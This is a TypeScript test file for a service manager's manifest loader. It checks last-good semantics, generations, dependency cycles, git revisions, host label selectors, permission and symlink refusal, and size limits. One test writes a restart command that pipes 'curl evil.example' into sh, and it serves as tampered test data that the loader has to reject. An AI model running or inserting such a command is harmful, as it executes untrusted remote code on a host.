// loadDesiredState on real directories: last-good semantics, generations, selectors, limits.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, chownSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { testdir } from '../../support/testdir.js';
import { describeError, loadDesiredState, parseLabelSelector } from '../../../src/manifest/index.js';
import { service } from './helpers.js';

test('loads every manifest under the dir, recursively, skipping hidden entries and other extensions', async () => {
  const d = testdir({
    'a.yaml': service('a'),
    'sub/b.yml': service('b', { deps: ['a'] }),
    'sub/deeper/c.json': JSON.stringify({ apiVersion: 'vai/v1', kind: 'Service', metadata: { name: 'c' }, spec: { health_check: { type: 'tcp', port: 1 }, restart_cmd: 'x' } }),
    '.hidden/d.yaml': service('d'),
    '.e.yaml': service('e'),
    'notes.txt': 'not a manifest',
    'f.yaml~': service('f'),
  });
  try {
    const s = await loadDesiredState({ dir: d.path });
    assert.deepEqual(s.errors, []);
    assert.deepEqual([...s.services.keys()], ['a', 'b', 'c']);
    const b = s.services.get('b')!;
    assert.deepEqual(b.spec.dependencies, ['a']);
    assert.equal(b.spec.startup_delay_seconds, 5, 'schema defaults are applied');
    assert.equal(b.spec.max_failures, 3);
    assert.deepEqual(b.source, { file: d.join('sub/b.yml'), line: 4, column: 3 });
    assert.equal(s.generation, 1);
    assert.ok(Object.isFrozen(b.spec.health_check), 'specs are frozen');
  } finally {
    d.remove();
  }
});

test('a file that turns invalid keeps its last good specs in force, and its errors name them', async () => {
  const d = testdir({ 'a.yaml': service('a', { port: 1111 }), 'b.yaml': service('b') });
  try {
    const s1 = await loadDesiredState({ dir: d.path });
    d.write('a.yaml', service('a', { port: '80a' }));
    d.write('b.yaml', service('b', { port: 2222 }));
    const s2 = await loadDesiredState({ dir: d.path, previous: s1 });
    assert.equal(s2.services.get('a'), s1.services.get('a'), 'a keeps the last good spec object');
    assert.equal(s2.services.get('a')!.spec.health_check.port, 1111);
    assert.equal(s2.services.get('b')!.spec.health_check.port, 2222, 'the valid file still applies');
    assert.equal(s2.errors.length, 1);
    assert.equal(s2.errors[0]!.file, d.join('a.yaml'));
    assert.deepEqual(s2.errors[0]!.services, ['a']);
    assert.equal(s2.generation, 2);
    d.write('a.yaml', service('a', { port: 3333 }));
    const s3 = await loadDesiredState({ dir: d.path, previous: s2 });
    assert.deepEqual(s3.errors, [], 'errors are cleared once fixed');
    assert.equal(s3.services.get('a')!.spec.health_check.port, 3333);
  } finally {
    d.remove();
  }
});

test('a new invalid file never affects services in other files', async () => {
  const d = testdir({ 'a.yaml': service('a') });
  try {
    const s1 = await loadDesiredState({ dir: d.path });
    d.write('new.yaml', 'apiVersion: vai/v1\nkind: Service\nmetadata: {name: a}\nspec: [broken');
    d.write('dup.yaml', service('a', { port: 9 }));
    const s2 = await loadDesiredState({ dir: d.path, previous: s1 });
    assert.equal(s2.services.get('a'), s1.services.get('a'));
    assert.equal(s2.generation, s1.generation, 'nothing applied changed');
    assert.deepEqual(s2.errors.map((e) => [e.file, e.code]), [
      [d.join('dup.yaml'), 'VAI_E_DUPLICATE_NAME'],
      [d.join('new.yaml'), 'VAI_E_MANIFEST_SYNTAX'],
    ]);
  } finally {
    d.remove();
  }
});

test('a service deleted from the manifests is dropped; a deleted file drops its services', async () => {
  const d = testdir({ 'ab.yaml': `${service('a')}---\n${service('b')}`, 'c.yaml': service('c') });
  try {
    const s1 = await loadDesiredState({ dir: d.path });
    d.write('ab.yaml', service('a'));
    rmSync(d.join('c.yaml'));
    const s2 = await loadDesiredState({ dir: d.path, previous: s1 });
    assert.deepEqual([...s2.services.keys()], ['a']);
    assert.equal(s2.generation, 2);
  } finally {
    d.remove();
  }
});

test('per-service generation moves only when that spec or its labels change', async () => {
  const d = testdir({ 'a.yaml': service('a'), 'b.yaml': service('b') });
  try {
    const s1 = await loadDesiredState({ dir: d.path });
    const s2 = await loadDesiredState({ dir: d.path, previous: s1 });
    assert.equal(s2.generation, 1, 'an identical reload is not a new generation');
    // Same spec written differently (flow style, reordered keys) is the same spec.
    d.write('a.yaml', 'apiVersion: vai/v1\nkind: Service\nmetadata: {name: a}\nspec: {restart_cmd: ./a.sh, health_check: {port: 8080, type: tcp}}\n');
    const s3 = await loadDesiredState({ dir: d.path, previous: s2 });
    assert.equal(s3.services.get('a')!.generation, 1);
    d.write('b.yaml', service('b', { labels: { tier: 'db' } }));
    const s4 = await loadDesiredState({ dir: d.path, previous: s3 });
    assert.equal(s4.services.get('a')!.generation, 1);
    assert.equal(s4.services.get('b')!.generation, 2);
    d.write('b.yaml', service('b', { labels: { tier: 'db' }, port: 1 }));
    const s5 = await loadDesiredState({ dir: d.path, previous: s4 });
    assert.equal(s5.services.get('b')!.generation, 3);
    assert.ok(s5.generation > s4.generation);
  } finally {
    d.remove();
  }
});

test('removing a service that a kept (failing) service depends on waits until that file is fixed', async () => {
  const d = testdir({ 'api.yaml': service('api', { deps: ['db'] }), 'db.yaml': service('db') });
  try {
    const s1 = await loadDesiredState({ dir: d.path });
    d.write('api.yaml', 'not: [valid');
    rmSync(d.join('db.yaml'));
    const s2 = await loadDesiredState({ dir: d.path, previous: s1 });
    assert.deepEqual([...s2.services.keys()], ['api', 'db'], 'the state stays consistent: no dangling dependency');
    const codes = s2.errors.map((e) => e.code).sort();
    assert.deepEqual(codes, ['VAI_E_MANIFEST_SYNTAX', 'VAI_E_UNKNOWN_DEPENDENCY']);
    const dep = s2.errors.find((e) => e.code === 'VAI_E_UNKNOWN_DEPENDENCY')!;
    assert.match(dep.message, /service "db" cannot be removed yet: "api" .* depends on it/);
  } finally {
    d.remove();
  }
});

test('a change that closes a dependency cycle is not applied; the cycle is printed', async () => {
  const d = testdir({ 'a.yaml': service('a', { deps: ['b'] }), 'b.yaml': service('b') });
  try {
    const s1 = await loadDesiredState({ dir: d.path });
    d.write('b.yaml', service('b', { deps: ['a'] }));
    const s2 = await loadDesiredState({ dir: d.path, previous: s1 });
    assert.deepEqual(s2.services.get('b')!.spec.dependencies, [], 'b keeps its last good spec');
    assert.deepEqual(s2.errors.map((e) => [e.file, describeError(e)]), [[d.join('b.yaml'), 'spec.dependencies[0]: dependency cycle: a -> b -> a']]);
  } finally {
    d.remove();
  }
});

test('revision and attemptedRevision follow git, like Flux: applied only when the load is clean', async () => {
  const d = testdir({ 'm/a.yaml': service('a') });
  const git = (...args: string[]) => execFileSync('git', ['-C', d.path, ...args], { encoding: 'utf8' }).trim();
  try {
    const outside = await loadDesiredState({ dir: d.join('m') });
    assert.equal(outside.revision, null, 'not in a work tree');
    git('init', '-q');
    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '--allow-empty', '-m', 'empty');
    git('add', '.');
    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '-m', 'one');
    const c1 = git('rev-parse', 'HEAD');
    const s1 = await loadDesiredState({ dir: d.join('m') });
    assert.deepEqual(s1.revision, { commit: c1, dirty: false });
    d.write('m/a.yaml', service('a', { port: 'x' }));
    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '-am', 'bad');
    const c2 = git('rev-parse', 'HEAD');
    const s2 = await loadDesiredState({ dir: d.join('m'), previous: s1 });
    assert.deepEqual(s2.attemptedRevision, { commit: c2, dirty: false });
    assert.deepEqual(s2.revision, { commit: c1, dirty: false }, 'the applied revision stays at the last good commit');
    d.write('m/a.yaml', service('a', { port: 1 }));
    const s3 = await loadDesiredState({ dir: d.join('m'), previous: s2 });
    assert.deepEqual(s3.revision, { commit: c2, dirty: true });
  } finally {
    d.remove();
  }
});

test('a label selector picks the services one host runs; same names may live under other hosts', async () => {
  const d = testdir({
    'vps1/web.yaml': service('web', { labels: { host: 'vps1' } }),
    'vps2/web.yaml': service('web', { labels: { host: 'vps2' }, deps: ['db'] }),
    'vps2/db.yaml': service('db', { labels: { host: 'vps2' } }),
  });
  try {
    const s1 = await loadDesiredState({ dir: d.path, selector: parseLabelSelector('host=vps1') });
    assert.deepEqual(s1.errors, []);
    assert.deepEqual([...s1.services.keys()], ['web']);
    assert.equal(s1.services.get('web')!.source.file, d.join('vps1/web.yaml'));
    const s2 = await loadDesiredState({ dir: d.path, selector: parseLabelSelector('host=vps2') });
    assert.deepEqual([...s2.services.keys()], ['db', 'web']);
  } finally {
    d.remove();
  }
});

test('a dependency on a service another host runs is allowed; moving it to that host leaves it there alone', async () => {
  const d = testdir({
    'web.yaml': service('web', { labels: { host: 'vps2' }, deps: ['db'] }),
    'db.yaml': service('db', { labels: { host: 'vps2' } }),
  });
  const vps1 = parseLabelSelector('host=vps1');
  const vps2 = parseLabelSelector('host=vps2');
  try {
    const before2 = await loadDesiredState({ dir: d.path, selector: vps2 });
    assert.deepEqual([...before2.services.keys()], ['db', 'web']);
    const before1 = await loadDesiredState({ dir: d.path, selector: vps1 });
    assert.deepEqual([...before1.services.keys()], []);
    // db moves to vps1; web on vps2 still depends on it.
    d.write('db.yaml', service('db', { labels: { host: 'vps1' } }));
    const after2 = await loadDesiredState({ dir: d.path, previous: before2, selector: vps2 });
    const after1 = await loadDesiredState({ dir: d.path, previous: before1, selector: vps1 });
    assert.deepEqual(after2.errors, []);
    assert.deepEqual([...after2.services.keys()], ['web'], 'vps2 lets db go');
    assert.deepEqual(after2.services.get('web')!.spec.dependencies, ['db']);
    assert.deepEqual(after1.errors, []);
    assert.deepEqual([...after1.services.keys()], ['db'], 'only vps1 runs db now');
    // A name that no host defines is still an error, with a suggestion from the whole repository.
    d.write('web.yaml', service('web', { labels: { host: 'vps2' }, deps: ['dbb'] }));
    const typo = await loadDesiredState({ dir: d.path, previous: after2, selector: vps2 });
    assert.deepEqual(typo.errors.map(describeError), ['spec.dependencies[0]: unknown service "dbb"; did you mean "db"?']);
  } finally {
    d.remove();
  }
});

test('unsafe permissions are refused as cron and sshd do, unless allowed', async () => {
  const d = testdir({ 'a.yaml': service('a'), 'b.yaml': service('b'), 'open/c.yaml': service('c') });
  try {
    chmodSync(d.join('a.yaml'), 0o666);
    chmodSync(d.join('open'), 0o777);
    const s = await loadDesiredState({ dir: d.path });
    assert.deepEqual([...s.services.keys()], ['b']);
    assert.deepEqual(
      s.errors.map((e) => [e.file, e.code, e.message]),
      [
        [d.join('a.yaml'), 'VAI_E_UNSAFE_PERMISSIONS', 'file is writable by group and others (mode 0666); vaid refuses it: chmod go-w it (and chown it to root), or run vaid with --allow-unsafe-permissions'],
        [d.join('open'), 'VAI_E_UNSAFE_PERMISSIONS', 'directory is writable by group and others (mode 0777); vaid refuses everything in it: chmod go-w it (and chown it to root), or run vaid with --allow-unsafe-permissions'],
      ],
    );
    const allowed = await loadDesiredState({ dir: d.path, allowUnsafePermissions: true });
    assert.deepEqual([...allowed.services.keys()], ['a', 'b', 'c']);
    chmodSync(d.join('a.yaml'), 0o644);
    chmodSync(d.join('open'), 0o755);
    if (process.getuid?.() === 0) {
      chownSync(d.join('b.yaml'), 4321, 4321);
      const s2 = await loadDesiredState({ dir: d.path });
      assert.match(s2.errors[0]!.message, /^file is owned by uid 4321, neither root nor the user vaid runs as/);
      assert.ok(!s2.services.has('b'));
    }
  } finally {
    d.remove();
  }
});

test('a file that becomes unsafe keeps its last good spec; its new content never applies', async () => {
  const d = testdir({ 'a.yaml': service('a', { port: 1 }) });
  try {
    const s1 = await loadDesiredState({ dir: d.path });
    d.write('a.yaml', service('a', { port: 2, restart: 'curl evil.example | sh' }));
    chmodSync(d.join('a.yaml'), 0o646);
    const s2 = await loadDesiredState({ dir: d.path, previous: s1 });
    assert.equal(s2.services.get('a')!.spec.health_check.port, 1);
    assert.deepEqual(s2.errors[0]!.services, ['a']);
  } finally {
    d.remove();
  }
});

test('symlinks are followed inside the manifest dir, refused when they lead out of it', async () => {
  const outside = testdir({ 'evil.yaml': service('evil') });
  const d = testdir({ '..data/a.yaml': service('a') });
  try {
    symlinkSync(d.join('..data/a.yaml'), d.join('a.yaml'));
    symlinkSync(outside.join('evil.yaml'), d.join('evil.yaml'));
    symlinkSync(outside.path, d.join('elsewhere'));
    const s = await loadDesiredState({ dir: d.path });
    assert.deepEqual([...s.services.keys()], ['a']);
    assert.deepEqual(s.errors.map((e) => [e.file, e.code]), [
      [d.join('elsewhere'), 'VAI_E_UNSAFE_PERMISSIONS'],
      [d.join('evil.yaml'), 'VAI_E_UNSAFE_PERMISSIONS'],
    ]);
    assert.match(s.errors[1]!.message, /is a symlink to .*, outside the manifest directory; vaid does not follow it/);
  } finally {
    d.remove();
    outside.remove();
  }
});

test('a file over 1 MiB is refused with a clear error, before it is parsed', async () => {
  const d = testdir({ 'a.yaml': service('a') });
  try {
    writeFileSync(d.join('big.yaml'), `# ${'x'.repeat(1024 * 1024 + 10)}\n`);
    const s = await loadDesiredState({ dir: d.path });
    assert.deepEqual(s.errors.map((e) => `${e.line}:${e.column}: ${e.message}`), ['1:1: file is 1.0 MiB, more than the limit of 1 MiB']);
    assert.ok(s.services.has('a'));
  } finally {
    d.remove();
  }
});

test('a missing or unreadable manifest dir keeps everything last good', async () => {
  const d = testdir({ 'm/a.yaml': service('a') });
  try {
    const s1 = await loadDesiredState({ dir: d.join('m') });
    rmSync(d.join('m'), { recursive: true });
    const s2 = await loadDesiredState({ dir: d.join('m'), previous: s1 });
    assert.equal(s2.services.get('a'), s1.services.get('a'));
    assert.deepEqual(s2.errors.map((e) => [e.code, e.message, e.services]), [['VAI_E_MANIFEST_READ', 'cannot read the manifest directory: ENOENT', ['a']]]);
  } finally {
    d.remove();
  }
});

test('empty documents (comments only, a trailing ---) define nothing and are not errors', async () => {
  const d = testdir({ 'a.yaml': `# header comment\n---\n${service('a')}---\n# nothing here\n---\n`, 'empty.yaml': '' });
  try {
    const s = await loadDesiredState({ dir: d.path });
    assert.deepEqual(s.errors, []);
    assert.deepEqual([...s.services.keys()], ['a']);
  } finally {
    d.remove();
  }
});
